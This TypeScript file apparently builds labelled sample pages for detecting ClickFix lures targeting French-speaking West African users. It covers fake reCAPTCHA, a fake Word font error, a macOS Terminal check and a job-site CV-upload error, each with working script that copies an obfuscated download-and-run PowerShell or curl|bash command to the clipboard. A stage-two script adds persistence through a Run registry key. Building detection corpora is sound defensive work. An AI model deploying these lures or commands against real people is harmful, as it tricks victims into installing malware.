import { htmlRoute, type Entry } from '../entry.js';
import { CSS, b64, codes, doc, hex, textR } from '../parts/yv-kit.js';

// ClickFix as it reaches francophone West Africa (and one English variant): fake reCAPTCHA / Turnstile,
// "document cannot be displayed", "microphone problem", macOS Terminal variants, injected into compromised sites.

const encPs = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

const cmd1 = `powershell -w h -c "iex(iwr 'https://verif-captcha-ci.com/c.txt' -UseBasicParsing)" # ✅ Je ne suis pas un robot - ID de vérification reCAPTCHA : 7731-0925`;
const recaptchaFr = doc({
  title: 'Abidjan Actu - Vérification',
  lang: 'fr',
  css: `${CSS.reset}body{background:#f9f9f9}.art{max-width:760px;margin:0 auto;padding:20px;filter:blur(3px)}.ov{position:fixed;inset:0;background:rgba(0,0,0,.45);display:flex;align-items:center;justify-content:center}.rc{background:#fff;width:320px;border:1px solid #d3d3d3;border-radius:3px;box-shadow:0 0 4px rgba(0,0,0,.1);padding:14px;display:flex;align-items:center;gap:12px}.cb{width:28px;height:28px;border:2px solid #c1c1c1;border-radius:2px;cursor:pointer}.steps{display:none;background:#fff;width:380px;padding:20px;border-radius:6px;font-size:15px}.steps kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`,
  body: `<div class="art"><h1>Côte d'Ivoire : la BCEAO annonce de nouvelles mesures sur le mobile money</h1><p>Abidjan &mdash; Les opérateurs de mobile money devront renforcer l'identification de leurs abonnés...</p><p>Lorem ipsum dolor sit amet, consectetur adipiscing elit...</p></div>
<div class="ov"><div id="c1" class="rc"><div class="cb" id="cb"></div><span>Je ne suis pas un robot</span><span style="margin-left:auto;font-size:10px;color:#555;text-align:center">reCAPTCHA<br>Confidentialité - Conditions</span></div>
<div id="c2" class="steps"><b>Étapes de vérification</b><ol><li>Appuyez sur la touche Windows <kbd>&#8862;</kbd> + <kbd>R</kbd></li><li>Appuyez sur <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Appuyez sur <kbd>Entrée</kbd> pour terminer la vérification</li></ol><p style="font-size:12px;color:#666">Ceci nous aide à protéger le site contre les robots.</p></div></div>
<script>
var t=atob('${b64(cmd1)}');
document.getElementById('cb').onclick=function(){var ta=document.createElement('textarea');ta.value=decodeURIComponent(escape(t));document.body.appendChild(ta);ta.select();document.execCommand('copy');ta.remove();document.getElementById('c1').style.display='none';document.getElementById('c2').style.display='block';};
</script>`,
});
const stage1 = `$d="$env:APPDATA\\msupd";New-Item -ItemType Directory -Force $d|Out-Null;iwr 'https://verif-captcha-ci.com/pkg/u.zip' -OutFile "$d\\u.zip";Expand-Archive "$d\\u.zip" $d -Force;Start-Process "$d\\client32.exe";Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'MSUpdate' -Value "$d\\client32.exe"`;

const docFixCmd = `powershell -nop -w 1 -enc ${encPs("$u='https://docs-correctif.online/fix/kb5031.ps1';iex ((New-Object Net.WebClient).DownloadString($u))")}`;
const wordFix = doc({
  title: 'Contrat_de_bail_2025.docx - Aperçu',
  lang: 'fr',
  css: `${CSS.reset}body{background:#e6e6e6}.bar{background:#2b579a;color:#fff;padding:10px 18px;font-size:14px}.pg{max-width:760px;margin:26px auto;background:#fff;height:70vh;padding:50px;filter:blur(4px);color:#888}.err{position:fixed;top:22%;left:50%;transform:translateX(-50%);width:460px;background:#fff;border:1px solid #ccc;box-shadow:0 6px 24px rgba(0,0,0,.3)}.err h3{margin:0;background:#f3f3f3;padding:12px 16px;font-size:15px}.err div{padding:16px;font-size:14px}.err button{background:#2b579a;color:#fff;border:0;padding:9px 18px;margin-top:12px}ol{padding-left:20px}`,
  body: `<div class="bar">Word en ligne &mdash; Contrat_de_bail_2025.docx</div>
<div class="pg">CONTRAT DE BAIL À USAGE D'HABITATION ... Entre les soussignés ... Cocody Riviera 3 ... loyer mensuel ...</div>
<div class="err"><h3>&#9888; Erreur : l'extension « Word Online » n'est pas installée</h3><div>Le document ne peut pas s'afficher correctement car la police « Calibri Web » est manquante. Pour corriger ce problème :
<ol><li>Cliquez sur <b>Comment corriger</b> (la correction est copiée)</li><li>Ouvrez PowerShell en administrateur (clic droit sur Démarrer &rarr; Terminal (admin))</li><li>Collez (Ctrl+V) et appuyez sur Entrée</li><li>Actualisez la page</li></ol>
<button id="fix">Comment corriger</button> <span id="ok" style="display:none;color:green">&#10004; Copié</span></div></div>
<script>
var h='${hex(docFixCmd)}';
document.getElementById('fix').onclick=function(){var s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));navigator.clipboard.writeText(s);document.getElementById('ok').style.display='inline';};
</script>`,
});

const macCmd = `curl -fsSL https://dl-verif-mac.top/s/install.sh | bash`;
const macFr = doc({
  title: 'Vérification de sécurité',
  lang: 'fr',
  css: `${CSS.reset}body{background:#f5f5f7;display:flex;align-items:center;justify-content:center;min-height:100vh}.b{background:#fff;border-radius:14px;padding:28px;width:440px;box-shadow:0 8px 30px rgba(0,0,0,.1)}.c{background:#1d1d1f;color:#0f0;font-family:Menlo,monospace;font-size:12px;padding:10px;border-radius:6px;word-break:break-all}button{background:#0071e3;color:#fff;border:0;padding:10px 18px;border-radius:8px;margin-top:12px}`,
  body: `<div class="b"><h2>Vérification requise pour macOS</h2><p>Pour télécharger le document « Offre_emploi_Dakar_2025.pdf », confirmez que vous êtes humain :</p>
<ol><li>Appuyez sur <b>Cmd &#8984; + Espace</b> et tapez « Terminal »</li><li>Collez la commande copiée (Cmd + V)</li><li>Appuyez sur Entrée et saisissez votre mot de passe si demandé</li></ol>
<div class="c" id="cc">•••••••••••••••••••••••••••••••••••••</div><button id="cp">Copier la commande de vérification</button></div>
<script>
var e='${b64(macCmd)}';
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText('echo "'+e+'" | base64 -d | bash');document.getElementById('cc').textContent='Copié ✓ — collez dans Terminal';};
</script>`,
});

const cvCmd = `conhost --headless powershell -c "$c=iwr 'https://emploi-ci-cv.com/api/cv/fix' -UseB;iex $c"`;
const jobPortal = doc({
  title: 'EmploiCI.pro - Déposez votre CV',
  lang: 'fr',
  css: `${CSS.reset}body{background:#f0f4f8}.h{background:#00796b;color:#fff;padding:14px 24px;font-weight:700}.c{max-width:600px;margin:24px auto;background:#fff;padding:24px;border-radius:8px}.e{display:none;background:#fdecea;border:1px solid #f5c6cb;padding:14px;border-radius:6px;margin-top:14px;font-size:14px}.e button{background:#00796b;color:#fff;border:0;padding:9px 16px;border-radius:4px;margin-top:8px}`,
  body: `<div class="h">EmploiCI.pro &mdash; 3 200 offres en Côte d'Ivoire</div>
<div class="c"><h2>Chargé(e) de clientèle &mdash; Banque, Plateau</h2><p>Déposez votre CV pour postuler.</p>
<input type="file" id="cv" accept=".pdf,.doc,.docx"><button id="up" style="margin-left:8px">Envoyer</button>
<div class="e" id="e"><b>Échec du chargement du CV (code 0xC1900101)</b><p>Votre navigateur bloque l'envoi du fichier. Pour résoudre : appuyez sur <b>Win + R</b>, collez la commande (Ctrl+V) et appuyez sur <b>Entrée</b>, puis réessayez.</p><button id="fx">Copier la correction</button></div></div>
<script>
document.getElementById('up').onclick=function(){document.getElementById('e').style.display='block';};
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText(atob('${b64(cvCmd)}'));this.textContent='Copié';};
</script>`,
});

export const entries: Entry[] = [
  {
  id: 'yv-clickfix-recaptcha-abidjan-news-fr',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://abidjan-actu-direct.ci/economie/bceao-mobile-money-mesures',
  body: recaptchaFr,
  routes: { 'verif-captcha-ci.com/c.txt': textR(stage1) },
},
  { id: 'yv-clickfix-word-online-font-fix-fr', label: 'clickfix', kind: 'clickfix-fake-error', url: 'https://docs-correctif.online/apercu/Contrat_de_bail_2025.docx', body: wordFix },
  { id: 'yv-clickfix-macos-terminal-offre-fr', label: 'clickfix', kind: 'clickfix-macos', url: 'https://offre-emploi-dakar.pages.dev/document/verification', body: macFr },
  { id: 'yv-clickfix-emploici-cv-upload-fr', label: 'clickfix', kind: 'clickfix-fake-error', url: 'https://emploi-ci-cv.com/offres/charge-clientele-plateau', body: jobPortal, routes: { 'emploi-ci-cv.com/api/cv/fix': textR('Start-Process -WindowStyle Hidden "$env:TEMP\\\\cvfix.exe"') } },
];
